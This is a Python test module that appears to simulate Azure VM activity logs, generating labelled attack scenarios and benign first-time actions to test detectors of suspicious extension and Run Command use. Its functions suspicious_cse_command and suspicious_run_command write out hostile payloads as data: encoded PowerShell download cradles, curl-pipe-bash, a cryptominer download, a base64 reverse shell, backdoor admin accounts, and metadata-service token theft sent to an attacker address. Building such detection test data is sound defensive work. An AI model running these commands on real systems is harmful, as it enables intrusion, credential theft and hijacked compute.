"""Attack scenarios, one builder per alert type (each with variants), and benign novelties.

Every attack carries at least two signals a history can see (a caller or IP range new to the
subscription, a fan-out over many VMs, an operation the subscription never used, a suspicious
payload, a failure); every benign novelty carries one at most (a new admin working from the
corporate range on one VM, a new automation account from the automation range repeating a
routine). That is the line the detectors are asked to draw."""

from __future__ import annotations

import base64
from collections.abc import Callable
from dataclasses import replace
from datetime import datetime, timedelta

from tests.activity_sim.events import RUN_COMMAND, VM_WRITE, run_command_body, vm_body, vm_response
from tests.activity_sim.fleet import (
    ADE,
    CSE,
    DSC,
    MONITORING,
    NVIDIA,
    VMACCESS,
    Caller,
    CallerKind,
    Os,
    Subscription,
    Vm,
    gpu_driver_for,
    human,
    new_uuid,
    service_principal,
)
from tests.activity_sim.labels import Case
from tests.activity_sim.routine import Routine, ade_settings, gpu_settings
from tests.activity_sim.world import World


def _b64_utf16(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def suspicious_cse_command(os: Os, ip: str, pick: int) -> dict[str, object]:
    if os is Os.WINDOWS:
        cradle = "IEX (New-Object Net.WebClient).DownloadString('http://" + ip + "/a.ps1')"
        commands = (
            f"powershell -nop -w hidden -enc {_b64_utf16(cradle)}",
            "cmd /c net user helpdesk$ Winter2026! /add & net localgroup administrators helpdesk$ /add",
            (f"powershell -ep bypass -c \"iwr http://{ip}/svc.exe -OutFile C:\\Windows\\Temp\\svc.exe; "
            f"Start-Process C:\\Windows\\Temp\\svc.exe\""),
        )
    else:
        commands = (
            f"curl -fsSL http://{ip}/k.sh | bash",
            f"wget -q http://{ip}/xmrig -O /tmp/.x; chmod +x /tmp/.x; /tmp/.x -o stratum+tcp://pool.invalid:3333 -u w1",
            f"echo {_b64(f'bash -i >& /dev/tcp/{ip}/4444 0>&1')} | base64 -d | bash",
        )
    return {"commandToExecute": commands[pick % len(commands)]}


def suspicious_run_command(os: Os, ip: str, pick: int) -> list[str]:
    if os is Os.WINDOWS:
        scripts = (
            [("netsh interface portproxy add v4tov4 listenport=8080 listenaddress=0.0.0.0 connectport=80 "
             "connectaddress=169.254.169.254")],
            ["net user svc_backup P@ssw0rd123! /add", "net localgroup administrators svc_backup /add"],
            [f"IEX (New-Object Net.WebClient).DownloadString('http://{ip}/stage2.ps1')"],
        )
    else:
        scripts = (
            [("curl -s -H Metadata:true 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01"
             f"&resource=https://management.azure.com/' | curl -s -X POST -d @- http://{ip}/t")],
            ["useradd -m -s /bin/bash sysadm", "echo 'sysadm:Passw0rd!' | chpasswd", "usermod -aG sudo sysadm"],
            [f"curl -fsSL http://{ip}/k.sh | bash"],
        )
    return scripts[pick % len(scripts)]


RECON = {Os.WINDOWS: (["whoami /all"], ["Get-LocalGroupMember -Group Administrators"], ["hostname", "ipconfig"]),
         Os.LINUX: (["id", "uname -a"], ["cat /etc/passwd"], ["hostname", "ip a"])}


class Attacks:
    def __init__(self, world: World) -> None:
        self.w = world
        self.rng = world.rng
        self._names: set[str] = set()
        self._variants: dict[tuple[str, ...], int] = {}
        self.builders: dict[str, Callable[[Subscription, datetime], None]] = {
            "VM_CustomScriptExtensionUnusualExecution": self.cse_unusual_execution,
            "VM_CustomScriptExtensionUnusualDeletion": self.cse_unusual_deletion,
            "VM_DSCExtensionSuspiciousUsage": self.dsc_usage,
            "VM_RunCommandSuspiciousUsage": self.run_command_usage,
            "VM_VMAccessSuspiciousUsage": self.vmaccess_usage,
            "VM_DiskEncryptionSuspiciousUsage": self.disk_encryption_usage,
            "VM_GPUDriverExtensionUnusualExecution": self.gpu_unusual_execution,
            "VM_GPUExtensionSuspiciousFailure": self.gpu_failure,
            "VM_SuspiciousMultiExtensionUsage": self.multi_extension,
            "VM_CustomScriptExtensionSuspiciousFailure": self.cse_failure,
            "VM_RunCommandSuspiciousFailure": self.run_command_failure,
        }

    # --- who attacks -------------------------------------------------------------------
    def attacker(self, sub: Subscription, kind: str) -> tuple[Caller, str, list[str]]:
        """(caller, its IP address, signals): always from an IP range new to the subscription."""
        prefix = self.w.ips.hostile()
        if kind == "new_user":
            caller = human(self.rng, prefix, self._names)
            signals = ["new caller", "new IP range"]
        elif kind == "new_sp":
            caller = service_principal(self.rng, f"app-{self.rng.randrange(16**6):06x}", prefix)
            signals = ["new caller", "new IP range"]
        elif kind == "managed_identity":
            vm = self.rng.choice(sub.vms)
            caller = Caller(CallerKind.MANAGED_IDENTITY, vm.name, new_uuid(self.rng), new_uuid(self.rng), prefix,
                            mi_resource_id=vm.resource_id)
            signals = ["new caller (a VM's managed identity)", "new IP range"]
        elif kind == "compromised_admin":
            caller = replace(self.rng.choice(sub.admins), ip_prefix=prefix)
            signals = ["new IP range"]  # a known admin's credentials: the range is the only novelty
        else:  # compromised automation
            known = sub.provisioner if kind == "compromised_provisioner" else sub.pipeline
            assert known is not None
            caller = replace(known, ip_prefix=prefix)
            signals = ["new IP range"]  # a known automation account's credentials
        return caller, self.w.ips.address(prefix), signals

    def _vms(self, sub: Subscription, when: datetime, count: int, pool: list[Vm] | None = None) -> list[Vm]:
        day = (when - self.w.start).days
        vms = [vm for vm in (pool if pool is not None else sub.vms) if vm.created_day < day]
        return self.rng.sample(vms, k=min(count, len(vms)))

    def _variant(self, options: tuple[str, ...]) -> str:
        """Variants in turn (the first one drawn), so a few scenarios already cover them all."""
        seen = self._variants.get(options)
        index = self.rng.randrange(len(options)) if seen is None else seen + 1
        self._variants[options] = index
        return options[index % len(options)]

    def _name(self) -> str:
        return self.rng.choice(("", "ext", "update", "cfg")) + f"{self.rng.randrange(16**8):08x}"

    def _case(self, alert_type: str, kind: str, text: str, sub: Subscription, when: datetime,
              signals: list[str]) -> Case:
        return self.w.case(alert_type, kind, text, sub, when, signals)

    # --- one builder per alert type -----------------------------------------------------
    def cse_unusual_execution(self, sub: Subscription, when: datetime) -> None:
        kind = self._variant(("new_user", "new_sp", "compromised_admin"))
        caller, ip, signals = self.attacker(sub, kind)
        case = self._case("VM_CustomScriptExtensionUnusualExecution", kind, "Custom Script from an unseen origin",
                          sub, when, [*signals, "fileUris and command never seen"])
        host = f"{self.w.ips.address(self.w.ips.hostile())}"
        for vm in self._vms(sub, when, self.rng.randint(1, 3)):
            script = "svc.ps1" if vm.os is Os.WINDOWS else "svc.sh"
            run = f"powershell -ExecutionPolicy Bypass -File {script}" if vm.os is Os.WINDOWS else f"sh {script}"
            self.w.extension(when, vm, caller, ip, CSE[vm.os], self._name(),
                             {"fileUris": [f"http://{host}/{script}"], "commandToExecute": run}, case=case)
            when += timedelta(seconds=self.rng.randrange(20, 120))

    def cse_unusual_deletion(self, sub: Subscription, when: datetime) -> None:
        kind = self._variant(("new_user", "managed_identity", "compromised_admin"))
        caller, ip, signals = self.attacker(sub, kind)
        case = self._case("VM_CustomScriptExtensionUnusualDeletion", kind, "Custom Script run, then deleted",
                          sub, when, [*signals, "deleted minutes after it ran"])
        for vm in self._vms(sub, when, self.rng.randint(1, 2)):
            name = self._name()
            end = self.w.extension(when, vm, caller, ip, CSE[vm.os], name,
                                   suspicious_cse_command(vm.os, ip, self.rng.randrange(3)), case=case)
            self.w.delete_extension(end + timedelta(seconds=self.rng.randrange(30, 600)), vm, caller, ip, name,
                                    case=case)
            when += timedelta(seconds=self.rng.randrange(30, 180))

    def dsc_usage(self, sub: Subscription, when: datetime) -> None:
        kind = self._variant(("new_user", "new_sp"))
        caller, ip, signals = self.attacker(sub, kind)
        vms = self._vms(sub, when, self.rng.randint(4, 8), sub.windows())
        extra = [] if sub.uses_dsc else ["subscription never used DSC"]
        case = self._case("VM_DSCExtensionSuspiciousUsage", kind, f"DSC pushed to {len(vms)} VMs", sub, when,
                          [*signals, *extra, f"{len(vms)} VMs in minutes"])
        settings = {"ModulesUrl": f"http://{self.w.ips.address(self.w.ips.hostile())}/Update.zip",
                    "ConfigurationFunction": "Update.ps1\\Update", "WMFVersion": "latest",
                    "Privacy": {"DataCollection": "Disable"}}
        for vm in vms:
            self.w.extension(when, vm, caller, ip, DSC, self._name(), settings, case=case)
            when += timedelta(seconds=self.rng.randrange(15, 120))

    def run_command_usage(self, sub: Subscription, when: datetime) -> None:
        kind = self._variant(("new_user", "managed_identity", "new_sp"))
        caller, ip, signals = self.attacker(sub, kind)
        vms = self._vms(sub, when, self.rng.randint(6, 16))
        case = self._case("VM_RunCommandSuspiciousUsage", kind, f"Run Command over {len(vms)} VMs", sub, when,
                          [*signals, f"{len(vms)} VMs in minutes"])
        for vm in vms:
            self.w.operation(when, vm, caller, ip, RUN_COMMAND,
                             body=run_command_body(vm, self.rng.choice(RECON[vm.os])), duration_s=(15, 90), case=case)
            when += timedelta(seconds=self.rng.randrange(10, 60))

    def vmaccess_usage(self, sub: Subscription, when: datetime) -> None:
        kind = self._variant(("new_user", "compromised_admin"))
        caller, ip, signals = self.attacker(sub, kind)
        # A known admin's stolen credentials need a second signal besides the new range: a fan-out.
        vms = self._vms(sub, when, self.rng.randint(2, 5) if kind == "new_user" else self.rng.randint(3, 5))
        case = self._case("VM_VMAccessSuspiciousUsage", kind, f"VMAccess admin reset on {len(vms)} VMs", sub, when,
                          [*signals, f"{len(vms)} VMs in minutes"])
        for vm in vms:
            settings = {"username": "support_adm"} if vm.os is Os.WINDOWS else {}
            self.w.extension(when, vm, caller, ip, VMACCESS[vm.os], "enablevmaccess", settings, case=case)
            when += timedelta(seconds=self.rng.randrange(20, 120))

    def disk_encryption_usage(self, sub: Subscription, when: datetime) -> None:
        kind = self._variant(("foreign_vault", "new_user"))
        caller, ip, signals = self.attacker(sub, "compromised_provisioner" if kind == "foreign_vault" else kind)
        vms = self._vms(sub, when, self.rng.randint(4, 10))
        vault = sub.key_vault_id
        if kind == "foreign_vault":
            vault = (f"/subscriptions/{new_uuid(self.rng)}/resourceGroups/rg/providers/Microsoft.KeyVault/vaults/"
                     f"kv{self.rng.randrange(16**6):06x}")
            signals = [*signals, "key vault outside the subscription"]
        case = self._case("VM_DiskEncryptionSuspiciousUsage", kind, f"disk encryption on {len(vms)} VMs", sub, when,
                          [*signals, f"{len(vms)} VMs in minutes"])
        for vm in vms:
            self.w.extension(when, vm, caller, ip, ADE[vm.os], "AzureDiskEncryption", ade_settings(sub, vault),
                             case=case)
            when += timedelta(seconds=self.rng.randrange(10, 90))

    def gpu_unusual_execution(self, sub: Subscription, when: datetime) -> None:
        kind = self._variant(("new_gpu_vms", "new_user"))
        caller, ip, signals = self.attacker(sub, "new_sp" if kind == "new_gpu_vms" else kind)
        case = self._case("VM_GPUDriverExtensionUnusualExecution", kind, "GPU driver installed by an unusual caller",
                          sub, when, signals)
        if kind == "new_gpu_vms":
            targets = []
            for n in range(self.rng.randint(1, 3)):
                size = self.rng.choice(("Standard_NC24ads_A100_v4", "Standard_ND96asr_v4", "Standard_NC6s_v3"))
                vm = Vm(sub.id, "rg-tmp", f"vm{self.rng.randrange(16**5):05x}", size, Os.LINUX, sub.location, -1)
                end = self.w.operation(when, vm, caller, ip, VM_WRITE, body=vm_body(vm, "user1"),
                                       response=vm_response(vm, self.rng), duration_s=(60, 200), case=case)
                targets.append((vm, end))
            case.signals.append("new GPU VMs created by the same caller")
        else:
            gpus = [vm for vm in sub.vms if vm.gpu]
            targets = [(vm, when) for vm in self._vms(sub, when, self.rng.randint(1, 3), gpus)]
        for vm, at in targets:
            self.w.extension(at + timedelta(seconds=30), vm, caller, ip, gpu_driver_for(vm.os, vm.size), self._name(),
                             gpu_settings(vm), case=case)

    def gpu_failure(self, sub: Subscription, when: datetime) -> None:
        kind = self._variant(("new_sp", "compromised_provisioner", "new_user"))
        caller, ip, signals = self.attacker(sub, kind)
        vms = self._vms(sub, when, self.rng.randint(1, 4), sub.plain())
        case = self._case("VM_GPUExtensionSuspiciousFailure", kind, f"GPU driver failed on {len(vms)} VMs without GPU",
                          sub, when, [*signals, "VM size has no GPU", "failed"])
        for vm in vms:
            self.w.extension(when, vm, caller, ip, NVIDIA[vm.os], self._name(), gpu_settings(vm), outcome="Failed",
                             failure="VMExtensionHandlerNonTransientError", case=case)
            when += timedelta(seconds=self.rng.randrange(20, 90))

    def multi_extension(self, sub: Subscription, when: datetime) -> None:
        kind = self._variant(("fleet", "one_vm"))
        caller, ip, signals = self.attacker(sub, "new_user" if kind == "fleet" else "new_sp")
        vms = self._vms(sub, when, self.rng.randint(4, 6) if kind == "fleet" else 1)
        types = self.rng.randint(3, 5) if kind == "fleet" else self.rng.randint(5, 6)
        case = self._case("VM_SuspiciousMultiExtensionUsage", kind, f"{types} monitoring extensions on {len(vms)} VMs",
                          sub, when, [*signals, f"{types * len(vms)} extension writes in minutes"])
        for vm in vms:
            for ext in self.rng.sample(MONITORING[vm.os], k=types):
                self.w.extension(when, vm, caller, ip, ext, ext.type, {}, case=case)
                when += timedelta(seconds=self.rng.randrange(5, 30))

    def cse_failure(self, sub: Subscription, when: datetime) -> None:
        kind = self._variant(("new_user", "compromised_pipeline", "managed_identity"))
        caller, ip, signals = self.attacker(sub, kind)
        vm = self._vms(sub, when, 1)[0]
        case = self._case("VM_CustomScriptExtensionSuspiciousFailure", kind,
                          f"suspicious Custom Script failed on {vm.name}",
                          sub, when, [*signals, "suspicious command", "failed"])
        self.w.extension(when, vm, caller, ip, CSE[vm.os], self._name(),
                         suspicious_cse_command(vm.os, ip, self.rng.randrange(3)), outcome="Failed", case=case)

    def run_command_failure(self, sub: Subscription, when: datetime) -> None:
        kind = self._variant(("agent_error", "forbidden"))
        caller, ip, signals = self.attacker(sub, self.rng.choice(("new_user", "managed_identity")))
        vms = self._vms(sub, when, self.rng.randint(1, 2))
        case = self._case("VM_RunCommandSuspiciousFailure", kind, f"suspicious Run Command failed ({kind})", sub, when,
                          [*signals, "suspicious script", "failed"])
        for vm in vms:
            body = run_command_body(vm, suspicious_run_command(vm.os, ip, self.rng.randrange(3)))
            self.w.operation(when, vm, caller, ip, RUN_COMMAND, body=body, duration_s=(15, 90),
                             outcome="Forbidden" if kind == "forbidden" else "Failed",
                             failure="VMAgentStatusCommunicationError", case=case)
            when += timedelta(seconds=self.rng.randrange(20, 90))


class Novelties:
    """Benign firsts: a new admin's routine work, a new automation account starting a routine."""

    def __init__(self, world: World, routine: Routine) -> None:
        self.w = world
        self.rng = world.rng
        self.routine = routine
        self._names: set[str] = {a.principal for s in world.subs for a in s.admins}

    def new_admin(self, sub: Subscription, d: int) -> None:
        admin = human(self.rng, sub.corporate_prefix, self._names)
        action = self.rng.choice(("run_command", "vmaccess", "cse"))
        local = self.rng.uniform(9.5, 16.5)
        when = self.w.at(d, local - admin.utc_offset_h)
        case = self.w.case(None, "new_admin_routine", f"new admin {admin.principal}: one {action}", sub, when,
                           ["new caller", "corporate IP range", "one VM", "working hours"])
        self.routine.admin_action(sub, admin, d, local - admin.utc_offset_h, case=case, action=action)

    def new_automation(self, sub: Subscription, first_day: int) -> None:
        caller = service_principal(self.rng, f"{sub.name}-release-pipeline-v2", sub.automation_prefix)
        targets = self.rng.sample(sub.vms, k=min(2, len(sub.vms)))
        case = self.w.case(None, "new_automation_routine", "new release pipeline starts a daily CSE routine", sub,
                           self.w.day(first_day), ["new caller", "automation IP range", "same routine every day"])
        for d in range(first_day, self.w.days):
            self.routine.pipeline(sub, caller, d, targets, hour=2.5, case=case)
